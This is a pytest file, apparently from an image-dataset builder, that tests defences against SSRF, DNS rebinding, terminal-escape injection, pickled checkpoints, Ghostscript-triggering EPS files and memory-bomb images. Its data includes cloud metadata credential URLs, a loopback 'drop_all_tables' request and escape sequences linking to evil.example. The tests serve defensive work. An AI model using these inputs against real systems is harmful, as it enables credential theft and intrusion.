    hostile = taxon_texts({"kingdom": "Animalia", "genus": "Pi\x00ca\x1b[31m", "species": "hud\u202esonia"},
                          "Black-billed\u2066 magpie\x9b", common_names={"es": "urraca\u200f"}, languages=("en", "es"))
    clean = taxon_texts({"kingdom": "Animalia", "genus": "Pica", "species": "hudsonia"}, "Black-billed magpie",
                        common_names={"es": "urraca"}, languages=("en", "es"))
    bad = set("\x00\x1b\x9b\u202e\u2066\u200f")
    assert not any(bad & set(text) for text in hostile.captions.values())
    assert hostile.captions["taxon_com"] == \
        "a photo of Animalia Pica[31m hudsonia with common name Black-billed magpie."
    assert hostile.stripped == 6 and clean.stripped == 0
    assert hostile.captions == {k: v.replace("Pica", "Pica[31m") for k, v in clean.captions.items()}
    # the dataset card's line counts them over the taxa of the shards
    build = tmp_path / "b"
    (build / "selection").mkdir(parents=True)
    from tol_builder.records import RANKS

    samples = [{**dict.fromkeys(RANKS), "uid": f"u{i}", "taxon_id": f"t{i % 2}", "lowest_rank": "genus",
                "common_name": ["Black-billed\u2066 magpie\x9b", "Raven"][i % 2],
                "common_names": json.dumps({"es": ["urraca\u200f", "cuervo"][i % 2]}),
                "kingdom": "Animalia", "genus": ["Pi\x00ca\x1b[31m", "Corvus"][i % 2]} for i in range(5)]
    pq.write_table(pa.Table.from_pylist(samples), build / "selection" / "samples.parquet")
    index_path(build, "train", 0).parent.mkdir(parents=True)
    pq.write_table(pa.table({"uid": [s["uid"] for s in samples], "key": ["json"] * 5}), index_path(build, "train", 0))
    line = stripped_line(build, ["en", "es"])
    assert "5 in 1 taxa (3 images)" in line, line


# issue 18 item 7e
def test_a_pickled_checkpoint_is_refused_in_one_line_naming_the_file(tmp_path):
    torch = pytest.importorskip("torch")
    from tol_builder.train.checkpoint import STATE_FILE, load_state

    folder = tmp_path / "step-00000001"
    folder.mkdir()
    torch.save({"step": 1, "where": Path("/etc/passwd")}, folder / STATE_FILE)  # a pickled object, not a tensor
    with pytest.raises(TolError) as e:
        load_state(folder)
    message = str(e.value)
    assert "\n" not in message and str(folder / STATE_FILE) in message and "refused" in message
    assert "weights_only" not in message and e.value.__cause__ is None and e.value.__suppress_context__
    torch.save({"step": 2, "loss": torch.tensor([1.0])}, folder / STATE_FILE)  # tensors and plain values load
    assert load_state(folder)["step"] == 2


# ------------------------------------------------------------------------------------- issue 18 item 4
# Server-side request forgery. No test sends anything to a non-loopback address: `connects` refuses (and
# records) every connection to one before it is made, and the names below are answered by `_answer_names`
# (the DNS answer only: the policy, its resolver and aiohttp's connector are the real ones).
import asyncio  # noqa: E402
import contextlib  # noqa: E402
import ipaddress  # noqa: E402
import socket  # noqa: E402
import threading  # noqa: E402
import urllib.parse  # noqa: E402


def _is_loopback(address: str) -> bool:
    ip = ipaddress.ip_address(address.split("%", 1)[0])
    mapped = getattr(ip, "ipv4_mapped", None)
    return ip.is_loopback or (mapped is not None and mapped.is_loopback)


@pytest.fixture
def connects(monkeypatch) -> list[str]:
    """Every address a socket of this process tries to connect to; a non-loopback one is refused before any
    packet leaves (so that a broken policy cannot reach 169.254.169.254 from a test)."""
    seen: list[str] = []
    connect = socket.socket.connect

    def guarded(sock, address):
        if sock.family in (socket.AF_INET, socket.AF_INET6):
            seen.append(address[0])
            if not _is_loopback(address[0]):
                raise ConnectionRefusedError(f"test guard: no connection to {address[0]}")
        return connect(sock, address)

    monkeypatch.setattr(socket.socket, "connect", guarded)
    return seen


def _answer_names(monkeypatch, answers: dict[str, list[list[str]]]) -> dict[str, int]:
    """The system resolver answers each name of `answers` with its n-th list at the n-th lookup (the last one
    after that); other names as usual. Returns the lookups made per name."""
    lookups = {name: 0 for name in answers}
    real = socket.getaddrinfo

    def getaddrinfo(host, port, family=0, type=0, proto=0, flags=0):
        name = host.decode() if isinstance(host, bytes) else host
        if name not in answers:
            return real(host, port, family, type, proto, flags)
        lookups[name] += 1
        got = answers[name][min(lookups[name], len(answers[name])) - 1]
        port = int(port or 0)
        return [(socket.AF_INET6, socket.SOCK_STREAM, 6, "", (a, port, 0, 0)) if ":" in a else
                (socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, port)) for a in got]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return lookups


@contextlib.contextmanager
def _admin_server(body: bytes):
    """A real aiohttp server on 127.0.0.1 with /internal-admin, an endpoint nobody outside may reach: yields
    (port, the path and query of every request it received)."""
    from aiohttp import web

    hits: list[str] = []

    async def admin(request):
        hits.append(request.path_qs)
        return web.Response(body=body, content_type="image/jpeg")

    app = web.Application()
    app.router.add_get("/internal-admin", admin)
    loop = asyncio.new_event_loop()
    runner = web.AppRunner(app, access_log=None)
    loop.run_until_complete(runner.setup())
    site = web.TCPSite(runner, "127.0.0.1", 0)
    loop.run_until_complete(site.start())
    port = site._server.sockets[0].getsockname()[1]
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    try:
        yield port, hits
    finally:
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.run_until_complete(runner.cleanup())
        loop.close()


def test_an_address_is_global_only_with_every_embedded_ipv4_address_global():
    from tol_builder.urlpolicy import is_private_address

    refused = ["100.64.0.1", "100.127.255.254",  # carrier-grade NAT (Alibaba's metadata service is 100.100.100.200)
               "2002:7f00:1::1", "2002:a9fe:a9fe::1", "2002:a00:1::1",  # 6to4 of 127.0.0.1, 169.254.169.254, 10.0.0.1
               "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b:1::a9fe:a9fe",  # NAT64 (well-known, local-use)
               "2001:0:4136:e378:8000:63bf:3fff:fdd2", "2001::a9fe:a9fe",  # Teredo
               "::ffff:169.254.169.254", "::7f00:1", "224.0.0.1", "ff02::1", "fec0::1", "0.0.0.0", "::",
               "240.0.0.1", "255.255.255.255", "fe80::1%eth0", "192.0.2.1", "198.18.0.1"]
    for address in refused:
        assert is_private_address(address), address
    for address in ("93.184.216.34", "8.8.8.8", "2606:2800:220:1:248:1893:25c8:1946", "2002:5db8:d822::1",
                    "64:ff9b::808:808", "::ffff:8.8.8.8"):  # 6to4 and NAT64 of public addresses stay public
        assert not is_private_address(address), address


def test_a_loopback_url_in_metadata_is_refused_unless_the_workflow_allows_private_addresses(connects):
    from tol_builder.config import FetchConfig, read_toml

    with _admin_server(jpeg_bytes(noise_image(64, 48, seed=8))) as (port, hits):
        urls = [f"http://127.0.0.1:{port}/internal-admin?action=drop_all_tables",
                f"http://localhost:{port}/internal-admin?via=name",
                f"http://[::ffff:127.0.0.1]:{port}/internal-admin?via=mapped",
                f"http://[::1]:{port}/internal-admin?via=v6"]
        rows = _fetch(urls)
        for u in urls:
            assert (rows[u]["status"], rows[u].get("error_class")) == ("failed", "private_address"), (u, rows[u])
            assert rows[u]["http_status"] is None and "fetch.allow_private_addresses" in rows[u]["error_message"]
        assert hits == [] and connects == []  # nothing was sent: not even a connection
        rows = _fetch(urls[:1], allow_private_addresses=True)  # a workflow serving its own images says so
        assert rows[urls[0]]["status"] == "ok" and hits == ["/internal-admin?action=drop_all_tables"]
    # the setting, and its old name (which workflows still use), from a workflow's [fetch] table
    assert from_dict(FetchConfig, {"allow_private_addresses": True}, "wf.toml").allow_private_addresses
    assert from_dict(FetchConfig, {"allow_private_redirects": True}, "wf.toml").allow_private_addresses
    assert not FetchConfig().allow_private_addresses
    demo = Path(__file__).resolve().parents[1] / "workflows" / "demo.toml"  # the demo serves EOL from loopback
    assert from_dict(FetchConfig, read_toml(demo)["fetch"], demo).allow_private_addresses


def test_metadata_cgnat_and_6to4_addresses_are_refused_before_any_connection(connects):
    urls = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://100.100.100.200/latest/",
            "http://100.64.0.1/", "http://[2002:7f00:1::1]/", "http://[2002:a9fe:a9fe::1]/",
            "http://[64:ff9b::a9fe:a9fe]/", "http://[::ffff:169.254.169.254]/", "http://10.0.0.5/admin",
            "http://0.0.0.0/", "http://[fe80::1%25eth0]/", "http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/"]
    rows = _fetch(urls)
    for u in urls:
        assert (rows[u]["status"], rows[u].get("error_class")) == ("failed", "private_address"), (u, rows[u])
    assert connects == []
    # forms the socket library reads as 127.0.0.1 are refused too (not a canonical address / resolved first)
    odd = ["http://2130706433/", "http://127.1/", "http://0x7f.1/"]
    rows = _fetch(odd)
    assert {rows[u]["error_class"] for u in odd} <= {"bad_url", "private_address"} and connects == []


def test_a_name_is_checked_by_the_resolver_the_connection_uses(connects, monkeypatch):
    """Names resolving to the metadata address, CGNAT, 6to4 loopback, or a mix of public and private answers:
    refused, or connected to the public answer only; a name that changes its answer (DNS rebinding) never
    leads to a loopback connection."""
    with _admin_server(b"secret") as (port, hits):
        lookups = _answer_names(monkeypatch, {
            "metadata.example": [["169.254.169.254"]], "cgnat.example": [["100.64.0.1"]],
            "six.example": [["2002:7f00:1::1"]], "lan.example": [["10.0.0.7", "127.0.0.1"]],
            "mixed.example": [["93.184.216.34", "127.0.0.1"]],
            "rebind.example": [["93.184.216.34"], ["127.0.0.1"]]})  # public at first, then loopback
        refused = [f"http://{n}.example:{port}/internal-admin" for n in ("metadata", "cgnat", "six", "lan")]
        rows = _fetch(refused)
        for u in refused:
            assert (rows[u]["status"], rows[u].get("error_class")) == ("failed", "private_address"), (u, rows[u])
        assert connects == [] and hits == []
        mixed = f"http://mixed.example:{port}/internal-admin"
        assert _fetch([mixed])[mixed]["error_class"] == "connection"  # the guard refused the public answer
        assert connects == ["93.184.216.34"]  # the loopback answer was dropped, not tried next
        connects.clear()
        rebind = f"http://rebind.example:{port}/internal-admin"
        row = _fetch([rebind], attempts=3, backoff_base=0.0, backoff_max=0.0)[rebind]
        assert row["error_class"] == "connection" and set(connects) == {"93.184.216.34"}
        assert lookups["rebind.example"] == 1  # one lookup: the answer checked is the answer connected to
        row = _fetch([rebind])[rebind]  # a new session asks again: now loopback, refused before connecting
        assert row["error_class"] == "private_address" and set(connects) == {"93.184.216.34"}
        assert lookups["rebind.example"] == 2 and hits == []


def test_the_policy_resolver_hands_aiohttp_only_global_answers():
    from aiohttp.abc import AbstractResolver

    from tol_builder.fetch.http import PolicyResolver
    from tol_builder.urlpolicy import PrivateAddressRefused

    class Table(AbstractResolver):  # the DNS answer only
        async def resolve(self, host, port=0, family=socket.AF_INET):
            addresses = {"a.example": ["100.64.0.1", "2002:7f00:1::1", "93.184.216.34"],
                         "b.example": ["169.254.169.254", "fd00::1"]}[host]
            return [{"hostname": host, "host": a, "port": port, "family": socket.AF_INET6 if ":" in a
                     else socket.AF_INET, "proto": 0, "flags": socket.AI_NUMERICHOST} for a in addresses]

        async def close(self):
            pass

    async def answers(allow_private: bool, host: str) -> list[str]:
        return [a["host"] for a in await PolicyResolver(allow_private, Table()).resolve(host, 80)]

    assert asyncio.run(answers(False, "a.example")) == ["93.184.216.34"]
    with pytest.raises(PrivateAddressRefused, match="169.254.169.254"):
        asyncio.run(answers(False, "b.example"))
    assert asyncio.run(answers(True, "b.example")) == ["169.254.169.254", "fd00::1"]


# ------------------------------------------------------------------------------- issue 18 item 7: X-Robots-Tag
def test_x_robots_tag_none_and_agent_scoped_lists_are_read_as_the_spec_says(fault_server):
    fault_server.images["a"] = jpeg_bytes(noise_image(120, 90, seed=9))
    u = fault_server.url

    def url(*tags: str) -> str:
        return f"{u}/robots/a?" + urllib.parse.urlencode([("tag", t) for t in tags])

    opted = [url("none"), url("NONE"), url("googlebot: noindex, tol_builder: noai"),
             url("tol_builder: none"), url("googlebot: nofollow, tol_builder: nosnippet, noimageindex"),
             url("max-snippet: 20, none"), url("unavailable_after: 25 Jun 2010 15:00:00 PST, noindex"),
             url("googlebot: noindex", "none")]
    kept = [url("googlebot: noindex, otherbot: none"), url("tol_builder: nofollow, googlebot: noindex"),
            url("googlebot: none, noai, tol_builder: all"), url("max-image-preview: large"), url("nofollow"),
            url("googlebot: noindex", "tol_builder: nofollow")]
    rows = _fetch(opted + kept, per_host_rps=0.0)
    for x in opted:
        assert (rows[x]["status"], rows[x].get("error_class")) == ("failed", "opted_out"), x
        _nothing_of(rows[x], b"NOTHING")
    for x in kept:
        assert rows[x]["status"] == "ok", (x, rows[x])
    # our token is our User-Agent's product token
    mine, theirs = url("mycrawler: noai"), url("tol_builder: noai")
    rows = _fetch([mine, theirs], per_host_rps=0.0, user_agent="MyCrawler/2.0 (+https://example.org/bot)")
    assert rows[mine]["error_class"] == "opted_out" and rows[theirs]["status"] == "ok"
    # `none` opts out where noindex does, not where only noai is refused
    rows = _fetch([url("none")], per_host_rps=0.0, disallowed_directives=["noai"])
    assert rows[url("none")]["status"] == "ok"


# ------------------------------------------------------------- issue 18 item 3/4: formats and decode memory
import json  # noqa: E402
import shlex  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402

EPS = (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 16 16\n%%EndComments\n"
       b"newpath 0 0 moveto 16 16 lineto stroke\nshowpage\n%%EOF\n")


def _fake_gs(tmp: Path) -> tuple[dict, Path]:
    """An environment whose PATH starts with a `gs` that only writes down that it ran (and its arguments)."""
    folder = tmp / "bin"
    folder.mkdir()
    marker = tmp / "gs-ran.txt"
    gs = folder / "gs"
    gs.write_text(f'#!/bin/sh\necho "$@" >> {shlex.quote(str(marker))}\n[ "$1" = "--version" ] && exit 0\nexit 1\n')
    gs.chmod(0o755)
    return {**os.environ, "PATH": f"{folder}{os.pathsep}{os.environ.get('PATH', '')}"}, marker


def _python(code: str, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, env=env, timeout=300)


def test_eps_is_refused_unopened_and_ghostscript_never_runs(fault_server, tmp_path, monkeypatch):
    env, marker = _fake_gs(tmp_path)
    eps = tmp_path / "x.eps"
    eps.write_bytes(EPS)
    # a fresh process (Pillow looks for gs once per process): the default settings, and a FetchConfig built in
    # code that lists EPS (a workflow file cannot: see below) both refuse it by name
    r = _python("import sys\nfrom tol_builder.config import FetchConfig\nfrom tol_builder.fetch import imaging\n"
                "data = open(sys.argv[1], 'rb').read()\nlisted = FetchConfig()\nlisted.image_formats = ['EPS', 'JPEG']\n"
                "for cfg in (FetchConfig(), listed):\n"
                "    try:\n        imaging.process(data, cfg)\n        print('ok')\n"
                "    except imaging.ImageError as e:\n        print(e.error_class, e)\n", str(eps), env=env)
    lines = r.stdout.splitlines()
    assert r.returncode == 0 and len(lines) == 2, r.stdout + r.stderr
    for line in lines:
        assert line.startswith("format_refused EPS (by its signature) is not an allowed image format"), line
        assert "Ghostscript" in line
    assert not marker.exists(), marker.read_text()
    # the check is real: Pillow itself, given the file, runs the `gs` first on PATH
    r = _python("import sys\nfrom PIL import Image\ntry:\n    Image.open(sys.argv[1]).load()\nexcept Exception:\n"
                "    pass\n", str(eps), env=env)
    assert marker.exists() and "--version" in marker.read_text()
    marker.unlink()
    # through the fetch stage: a per-image failure with its class, the task goes on
    monkeypatch.setenv("PATH", env["PATH"])
    fault_server.images["x.eps"] = EPS
    fault_server.images["ok.jpg"] = jpeg_bytes(noise_image(80, 60, seed=18))
    u = fault_server.url
    rows = _fetch([f"{u}/img/x.eps", f"{u}/img/ok.jpg"])
    assert (rows[f"{u}/img/x.eps"]["status"], rows[f"{u}/img/x.eps"]["error_class"]) == ("failed", "format_refused")
    assert "EPS" in rows[f"{u}/img/x.eps"]["error_message"] and rows[f"{u}/img/ok.jpg"]["status"] == "ok"
    assert not marker.exists()
    # and a workflow cannot allow it
    with pytest.raises(ConfigError, match=r"fetch\.image_formats\[1\].*Ghostscript"):
        load_workflow(_workflow(tmp_path, '[fetch]\nimage_formats = ["JPEG", "EPS"]'))


def test_tiff_and_sgi_are_refused_unless_allowed(fault_server):
    import io

    import numpy as np
    from PIL import Image

    def saved(img, fmt: str) -> bytes:
        buf = io.BytesIO()
        img.save(buf, fmt)
        return buf.getvalue()

    grey = np.asarray(noise_image(96, 64, seed=19).convert("L"), dtype=np.float32) / 255
    fault_server.images["f.tif"] = saved(Image.fromarray(grey, "F"), "TIFF")  # a float TIFF, as in the issue
    fault_server.images["x.sgi"] = saved(noise_image(96, 64, seed=19), "SGI")
    u = fault_server.url
    urls = {"TIFF": f"{u}/img/f.tif", "SGI": f"{u}/img/x.sgi"}
    rows = _fetch(list(urls.values()))
    for fmt, url in urls.items():
        assert (rows[url]["status"], rows[url]["error_class"]) == ("failed", "format_refused"), rows[url]
        assert rows[url]["error_message"].startswith(f"{fmt} (by its signature) is not an allowed image format")
        assert rows[url].get("jpeg") is None
    rows = _fetch(list(urls.values()), image_formats=["JPEG", "PNG", "TIFF", "SGI"])  # allowed: decoded
    for fmt, url in urls.items():
        assert (rows[url]["status"], rows[url]["format"], rows[url]["width"]) == ("ok", fmt, 96), rows[url]


PEAK = """
import json, sys
from tol_builder.fetch import imaging
import pdqhash  # imported by process on first use: not part of the peak

def status(key):
    with open("/proc/self/status") as f:
        return next(int(line.split()[1]) * 1024 for line in f if line.startswith(key + ":"))

data = open(sys.argv[1], "rb").read()
with open("/proc/self/clear_refs", "w") as f:
    f.write("5")  # the high-water mark starts again from here
rss = status("VmRSS")
try:
    p = imaging.process(data)
    result = f"ok {p.stored_width}x{p.stored_height}"
except imaging.ImageError as e:
    result = e.error_class
print(json.dumps({"peak": status("VmHWM") - rss, "result": result}))
"""


@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="peak memory is read from Linux's /proc")
@pytest.mark.slow  # decodes two 88-megapixel images in fresh processes
def test_small_files_of_9400_square_pixels_decode_in_bounded_memory(tmp_path):
    """Issue 18: a 177 KB 16-bit PNG of 9400 x 9400 peaked at 2.28 GB and an RGBA PNG at 1.78 GB in
    imaging.process (float64 copies, several RGBA copies); a 2 GB worker died on every run."""
    import numpy as np
    from PIL import Image

    side = 9400
    grey = np.zeros((side, side), np.uint16)
    grey[::97, :], grey[:, ::89] = 40000, 20000
    Image.fromarray(grey).save(tmp_path / "grey16.png")
    del grey
    rgba = Image.new("RGBA", (side, side), (10, 200, 30, 128))
    rgba.paste((200, 10, 10, 255), (0, 0, side // 2, side // 3))
    rgba.save(tmp_path / "rgba.png")
    del rgba
    for name in ("grey16.png", "rgba.png"):
        assert (tmp_path / name).stat().st_size < 500_000 and side * side < 89_478_485  # small, under max_pixels
    got = {}
    for name in ("grey16.png", "rgba.png"):
        r = _python(PEAK, str(tmp_path / name))
        assert r.returncode == 0, r.stderr[-2000:]
        got[name] = json.loads(r.stdout.strip().splitlines()[-1])
    for name, g in got.items():
        assert g["peak"] < 600_000_000, (name, g)  # measured: 442 MB and 0 (before: 2,299 MB and 1,769 MB)
    # the 16-bit image is processed: 2 bytes a pixel decoded + 1 of its 8-bit copy, then 1 + 4 of the RGB one
    assert got["grey16.png"]["result"] == "ok 720x720"
    # the RGBA one needs 4 + 4 bytes a pixel (707 MB): over the default cap (512 MiB), refused from its header
    assert got["rgba.png"]["result"] == "too_large_decoded"


# issue 18 item 5 (follow-up)
LOGGED = "[/]sid[link=http://evil.example/]x[/link]\x1b[2J\x1b]8;;http://evil.example/\x07y"
LOGGED_SHOWN = "[/]sid[link=http://evil.example/]x[/link]\\x1b[2J\\x1b]8;;http://evil.example/\\x07y"


def _terminal():
    import io

    from rich.console import Console

    screen = io.StringIO()
    return screen, Console(file=screen, force_terminal=True, width=300)


def test_stage_logs_and_train_reports_print_values_as_text(tmp_path):
    """A source id or path with markup and ESC sequences, through a stage's ctx.log (kept styled when the
    project asks) and the titles of the eval tables, on a terminal: printed as it is, no MarkupError, no
    hyperlink, no raw ESC from the value."""
    from rich.text import Text

    from tol_builder.context import BuildContext
    from tol_builder.train.report import few_shot_table, zero_shot_table

    screen, console = _terminal()
    ctx = BuildContext(workflow=None, out=tmp_path, runner=None, console=console)
    ctx.log(f"ingest: removing the records of '{LOGGED}' under {tmp_path}/{LOGGED}")
    ctx.log(f"stage {LOGGED}: skipped", style="yellow")
    shown = Text.from_ansi(screen.getvalue()).plain  # what the terminal shows, the styles' codes removed
    assert f"ingest: removing the records of '{LOGGED_SHOWN}' under {tmp_path}/{LOGGED_SHOWN}" in shown
    assert f"stage {LOGGED_SHOWN}: skipped" in shown
    assert "\x1b[33m" in screen.getvalue()  # the project's own styling still reaches the terminal
    assert "\x1b[2J" not in screen.getvalue() and "\x1b]8;" not in screen.getvalue()
    BuildContext(workflow=None, out=tmp_path, runner=None, console=None).log(LOGGED)  # no console: silence

    screen, console = _terminal()
    levels = {LOGGED: {"top1": 0.5, "top5": 1.0, "chance": 0.1, "n": 3, "groups": 2}}
    console.print(zero_shot_table({"model": LOGGED, "data": f"{tmp_path}/{LOGGED}", "n_images": 3, "n_classes": 2,
                                   "text_type": "taxon", "templates": 80, "levels": levels}))
    shots = {"1-shot": {"mean": 0.5, "std": 0.1, "chance": 0.1, "classes": 2, "classes_left_out": 0,
                        "test_images": 3}}
    console.print(few_shot_table({"model": LOGGED, "data": "[/]set", "folds": 5, "n_images": 3, "n_classes": 2,
                                  "shots": shots}))
    def bare(text: str) -> str:  # a title wraps to its table's width: compared without the line breaks
        return "".join(text.split())

    shown = bare(Text.from_ansi(screen.getvalue()).plain)
    assert bare(f"zero-shot: {LOGGED_SHOWN} on {tmp_path}/{LOGGED_SHOWN} (3 images") in shown
    assert bare(f"few-shot (nearest centroid, 5 folds): {LOGGED_SHOWN} on [/]set") in shown
    assert bare(f"│ {LOGGED_SHOWN} │ 50.0%") in shown  # the level column too
    assert "\x1b[2J" not in screen.getvalue() and "\x1b]8;" not in screen.getvalue()


@pytest.mark.slow  # torch + open_clip in a subprocess and here
def test_pickled_weights_given_to_eval_are_refused_in_one_line_naming_the_file(tmp_path):
    """`tol eval --model tol-tiny --checkpoint FILE` (and train.init_checkpoint, which loads the same way), and
    a checkpoint folder whose weights file is pickled: the project's one-line refusal naming the file, not
    torch's traceback suggesting weights_only=False."""
    torch = pytest.importorskip("torch")
    pytest.importorskip("open_clip")
    from tol_builder.train import models

    weights = tmp_path / "weights [x].bin"
    torch.save({"state_dict": {}, "args": Path("/etc/passwd")}, weights)  # a pickled object, not a tensor
    build = tmp_path / "build"
    build.mkdir()
    r = run_cli("eval", "zero-shot", str(build), "--model", "tol-tiny", "--checkpoint", str(weights),
                env={"COLUMNS": "400"})
    assert r.returncode == 1, r.stderr
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error:") and str(weights) in lines[0], r.stderr
    assert "refused" in lines[0] and "weights_only" not in r.stderr and "Traceback" not in r.stderr
    with pytest.raises(TolError, match="refused"):  # train.init_checkpoint
        models.build(models.TINY, str(weights))
    folder = tmp_path / "step-00000001"
    models.write_checkpoint_files(folder, models.build(models.TINY, seed=0), models.model_config(models.TINY))
    assert models.load_for_eval(folder)[1].startswith(models.LOCAL_DIR)  # a plain checkpoint loads
    torch.save({"state_dict": {}, "args": Path("/etc/passwd")}, folder / models.WEIGHTS_FILE)
    with pytest.raises(TolError) as e:
        models.load_for_eval(folder)
    assert str(folder / models.WEIGHTS_FILE) in str(e.value) and "\n" not in str(e.value)
